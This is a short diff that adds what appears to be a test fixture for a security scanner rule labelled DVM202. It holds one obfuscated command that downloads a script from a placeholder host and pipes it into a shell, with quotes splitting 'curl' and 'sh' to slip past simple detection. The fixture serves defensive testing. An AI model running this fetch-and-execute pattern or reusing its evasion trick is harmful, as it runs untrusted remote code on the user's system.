@@ -1,0 +1,2 @@
+# expect: DVM202
+cu''rl -s https://x.example.org/a | s''h
